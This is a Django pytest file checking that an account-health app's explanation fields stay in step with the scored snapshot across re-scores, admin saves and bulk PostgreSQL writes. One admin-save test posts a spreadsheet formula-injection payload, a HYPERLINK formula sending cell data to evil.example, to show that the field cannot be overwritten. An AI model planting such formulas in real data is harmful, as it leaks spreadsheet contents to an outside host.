"""Why an account has its color, kept on the account: no path leaves Account.health_reasons /
confidence_reasons different from the words of the scored_on snapshot (a re-score of that day
after quieter later days, an admin save, both PostgreSQL write paths)."""

import datetime as dt
import re

import pytest
from django.contrib import admin
from django.forms.models import model_to_dict
from django.test import RequestFactory

from accounts.models import Account, HealthSnapshot
from accounts.tests import test_confidence
from accounts.tests.factories import TicketFactory
from healthscore import clock

D = test_confidence.D
rescore = test_confidence.rescore
account = test_confidence.account  # the fixture: meeting data 40 days old, plan touched on D, ...


worded_from_scored_on_snapshot = test_confidence.worded_from_scored_on_snapshot


def quiet_days(scored) -> dt.date:
    """Scored on D, then days on which nothing the row holds moved: scored_on stays behind the
    latest snapshot (the common state after any quiet nightly run). Returns the next day."""
    rescore(scored)
    rescore(scored, as_of=D + dt.timedelta(days=1))  # the first new day: the confidence may move
    scored_on = scored.scored_on
    rescore(scored, as_of=scored_on + dt.timedelta(days=1))
    assert scored.scored_on == scored_on
    return scored_on + dt.timedelta(days=1)


def test_re_scoring_the_scored_on_day_after_a_later_day_rewords_the_account(account):
    """Re-scoring the scored_on day when a later snapshot exists (a backfill, a re-run of the day,
    a back-dated sentiment) rewrites that day's snapshot: the account's words must follow it."""
    TicketFactory.create_batch(7, account=account, opened=D - dt.timedelta(days=3))
    quiet_days(account)
    scored_on = account.scored_on
    TicketFactory(account=account, opened=scored_on)  # one more ticket that day, still yellow
    rescore(account, as_of=scored_on)
    assert "8 tickets" in HealthSnapshot.objects.get(account=account, date=scored_on).measures["support"]["detail"]
    assert account.scored_on == scored_on
    assert (account.health_reasons, account.confidence_reasons) == worded_from_scored_on_snapshot(account)


def test_the_admin_cannot_edit_the_engines_words(admin_user):
    request = RequestFactory().get("/")
    request.user = admin_user
    fields = admin.site._registry[Account].get_form(request).base_fields
    assert "health_reasons" not in fields
    assert "confidence_reasons" not in fields


@pytest.mark.django_db
def test_an_admin_save_leaves_the_engines_words(client, admin_user, account, monkeypatch):
    """Scored before today, an admin's save today rescores and nothing the row holds moves, so the
    row is left alone: a text posted for the words must not land there (the lists and the CSV
    show them; only the engine writes them, which is why the CSV need not guard them)."""
    today = quiet_days(account)
    monkeypatch.setattr(clock, "today", lambda: today)
    data = {k: ("" if v is None else v) for k, v in model_to_dict(account).items() if k != "id"}
    data["health_reasons"] = '=HYPERLINK("http://evil.example/?"&A1,"Support red")'
    client.force_login(admin_user)
    url = f"/admin/accounts/account/{account.pk}/change/"
    page = client.get(url).content.decode()
    for name, value in re.findall(r'name="([^"]+-(?:TOTAL|INITIAL|MIN_NUM|MAX_NUM)_FORMS)"[^>]*value="(\d*)"', page):
        data[name] = value
    for name in [n for n in data if n.endswith("-TOTAL_FORMS")]:
        data[name] = data[name.replace("TOTAL", "INITIAL")]  # no extra (blank) inline form
    assert client.post(url, data).status_code == 302
    account.refresh_from_db()
    assert (account.health_reasons, account.confidence_reasons) == worded_from_scored_on_snapshot(account)


@pytest.mark.parametrize("copy_from", [10_000, 1], ids=["statements", "copy on postgresql"])
def test_the_words_survive_both_write_paths(account, monkeypatch, copy_from):
    """health_update's VALUES and COPY paths (PostgreSQL) both keep the line breaks and quotes."""
    from healthscore import bulk

    monkeypatch.setattr(bulk, "COPY_FROM", copy_from)
    TicketFactory.create_batch(7, account=account, opened=D - dt.timedelta(days=3))
    test_confidence.SentimentFactory(account=account, date=D, color="red", reason='Tab\there, back\\slash "q"\nline')
    rescore(account)
    assert account.health_reasons.split("\n")[-1] == 'TAM Sentiment red: “Tab\there, back\\slash "q" line”'
    assert (account.health_reasons, account.confidence_reasons) == worded_from_scored_on_snapshot(account)
